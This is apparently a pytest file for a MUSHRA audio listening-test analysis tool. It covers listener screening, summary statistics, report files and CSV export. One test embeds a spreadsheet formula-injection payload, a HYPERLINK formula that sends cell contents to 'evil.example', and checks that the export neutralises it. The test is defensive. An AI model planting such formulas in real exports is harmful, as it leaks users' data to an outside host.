"""Analysis over stored sessions: screening applied, per-domain rows, written reports, condition_summary."""

from __future__ import annotations

import csv
import io
import json
import math
from pathlib import Path

import pytest

from bench.errors import BenchError
from mushra.analysis import analyze, condition_summary, default_db_path
from mushra.stats import mean_ci95
from mushra.storage import Storage
from mushra.testing import make_session, make_test_dir
from mushra.validate import validate_session


def _store(test_dir: Path, cfg, sessions) -> None:
    storage = Storage(default_db_path(test_dir, cfg))
    for s in sessions:
        assert storage.add(validate_session(s, cfg))


def test_condition_summary_screens_and_splits_domains(tmp_path: Path) -> None:
    cfg = make_test_dir(tmp_path, n_items=4, seconds=0.1)   # items 1,3 speech; 2,4 music (see make_test_dir)
    items = [p.id for p in cfg.mushra_pages() if p.id != "training"]
    good = []
    for k in range(3):
        scores = {pid: {"reference": 100, "voc_a": 60 + 10 * k + j, "voc_b": 40, "anchor70": 30, "anchor35": 10}
                  for j, pid in enumerate(items)}
        scores["training"] = {"voc_a": 0}
        good.append(make_session(cfg, f"good{k}", scores=scores))
    bad_scores = {pid: {"reference": 50, "voc_a": 99} for pid in items}   # reference < 90 in 100 % of items
    _store(tmp_path, cfg, good + [make_session(cfg, "bad", scores=bad_scores)])

    rows = condition_summary(tmp_path)
    by = {(r["domain"], r["condition"]): r for r in rows}
    assert {d for d, _ in by} == {"speech", "music", "all"}
    a_all = by[("all", "voc_a")]
    expected = [60 + 10 * k + j for k in range(3) for j in range(4)]
    mean, ci = mean_ci95(expected)
    assert a_all["mean"] == pytest.approx(mean) and a_all["ci95"] == pytest.approx(ci)
    assert a_all["n_ratings"] == 12 and a_all["n_listeners"] == 3        # training and "bad" left out
    speech = [60 + 10 * k + j for k in range(3) for j in (0, 2)]
    assert by[("speech", "voc_a")]["mean"] == pytest.approx(sum(speech) / 6)
    assert by[("all", "reference")]["mean"] == 100
    assert [r["condition"] for r in rows if r["domain"] == "all"] == ["reference", "voc_a", "voc_b", "anchor70",
                                                                       "anchor35"]


def test_analyze_writes_reports(tmp_path: Path) -> None:
    cfg = make_test_dir(tmp_path / "t", n_items=2, seconds=0.1)
    _store(tmp_path / "t", cfg, [make_session(cfg, f"s{i}", seed=i) for i in range(4)])
    res, files = analyze(tmp_path / "t", tmp_path / "out")
    assert set(files) == {"summary.csv", "summary.json", "summary.md", "screening.json", "boxplot.png"}
    assert (tmp_path / "out" / "boxplot.png").read_bytes()[:4] == b"\x89PNG"
    summary = json.loads((tmp_path / "out" / "summary.json").read_text())
    assert {r["domain"] for r in summary["rows"]} == {"speech", "music", "all"}
    assert (tmp_path / "out" / "summary.csv").read_text().splitlines()[0] == \
        "domain,condition,mean,ci95,n_ratings,n_listeners"
    md = (tmp_path / "out" / "summary.md").read_text()
    assert "| voc_a |" in md and "4 kept" in md


def test_no_submissions_is_a_clear_error(tmp_path: Path) -> None:
    make_test_dir(tmp_path, n_items=1, seconds=0.1)
    with pytest.raises(BenchError, match="no submissions"):
        condition_summary(tmp_path)


def _answered(cfg, uuid: str, *, seed: int = 0, items: list[str] | None = None, comments: str = "") -> dict:
    s = make_session(cfg, uuid, seed=seed, name=comments)
    if items is not None:
        s["trials"] = [t for t in s["trials"] if t["id"] in ["training", *items]]
    return s


def test_partial_assessor_is_excluded_by_default_and_counted(tmp_path: Path) -> None:
    cfg = make_test_dir(tmp_path / "t", n_items=4, seconds=0.1)
    full = [_answered(cfg, f"full{i}", seed=i) for i in range(2)]
    partial = _answered(cfg, "partial", seed=9, items=["item01"])
    _store(tmp_path / "t", cfg, full + [partial])

    res, _ = analyze(tmp_path / "t", tmp_path / "out")
    by = {s.listener: s for s in res.screening()}
    assert (by["partial"].items_rated, by["partial"].items_total, by["partial"].excluded) == (1, 4, True)
    assert by["partial"].reasons == ["rated 1 of 4 items (all are required; --allow-partial keeps partial sessions)"]
    assert (by["full0"].items_rated, by["full0"].excluded) == (4, False)
    assert {r["listener"] for r in res.kept_ratings()} == {"full0", "full1"}
    md = (tmp_path / "out" / "summary.md").read_text()
    assert "| `partial` | 1 of 4 | no |" in md and "| `full0` | 4 of 4 | yes |" in md

    res, _ = analyze(tmp_path / "t", tmp_path / "out2", allow_partial=True)
    assert not any(s.excluded for s in res.screening())
    assert {r["listener"] for r in res.kept_ratings()} == {"full0", "full1", "partial"}
    assert "| `partial` | 1 of 4 | yes |" in (tmp_path / "out2" / "summary.md").read_text()

    from mushra.cli import main
    assert main(["analyze", str(tmp_path / "t"), "--out", str(tmp_path / "out3"), "--allow-partial"]) == 0
    assert "| `partial` | 1 of 4 | yes |" in (tmp_path / "out3" / "summary.md").read_text()


def test_single_listener_has_no_interval(tmp_path: Path) -> None:
    cfg = make_test_dir(tmp_path / "t", n_items=3, seconds=0.1)
    items = [p.id for p in cfg.mushra_pages() if p.id != "training"]
    _store(tmp_path / "t", cfg, [make_session(cfg, "only", scores={pid: {"reference": 100} for pid in items})])
    res, _ = analyze(tmp_path / "t", tmp_path / "out")
    ref = next(r for r in res.summary() if r["domain"] == "all" and r["condition"] == "reference")
    assert ref["n_listeners"] == 1 and math.isnan(ref["ci95"])          # was 0.0, printed "±0.0"
    md = (tmp_path / "out" / "summary.md").read_text()
    assert "| reference | 100.0 | n=1, no interval | 3 | 1 |" in md
    rows = json.loads((tmp_path / "out" / "summary.json").read_text())["rows"]
    assert all(r["ci95"] is None for r in rows)


def test_csv_neutralises_formulas_and_keeps_config_columns(tmp_path: Path) -> None:
    from mushra.analysis import mushra_csv

    cfg = make_test_dir(tmp_path / "t", n_items=1, seconds=0.1)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    s = _answered(cfg, "u1", comments=evil)
    for t in s["trials"]:
        for r in t["responses"]:
            r["comment"] = "@SUM(1+1)"
    storage = Storage(default_db_path(tmp_path / "t", cfg))
    storage.add(validate_session(s, cfg))
    # A stored session from before questionnaire names were checked must not widen the export either.
    import sqlite3
    with sqlite3.connect(storage.db_path) as conn:
        extra = json.dumps([["age", "40"]] + [[f"made_up{i}", "x"] for i in range(100)])
        conn.execute("INSERT INTO sessions(uuid, test_id, received, participant, payload) VALUES "
                     "('old', 'synthetic', 0, ?, '{}')", (extra,))
        conn.execute("INSERT INTO ratings VALUES ('old', 'item01', 'voc_a', 50, NULL, '+1', 0)")
    rows = list(csv.reader(io.StringIO(mushra_csv(storage, cfg))))
    assert rows[0] == ["session_test_id", "age", "comments", "session_uuid", "trial_id", "rating_stimulus",
                       "rating_score", "rating_time", "rating_comment"]
    assert {len(r) for r in rows} == {9}
    assert rows[1][2] == "'" + evil and rows[1][8] == "'@SUM(1+1)"
    assert rows[-1][1:3] == ["40", ""] and rows[-1][8] == "'+1"
    assert storage.sessions()[0]["participant"][1] == ("comments", evil)   # the stored answer stays raw
    for cell in (c for r in rows[1:] for c in r):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
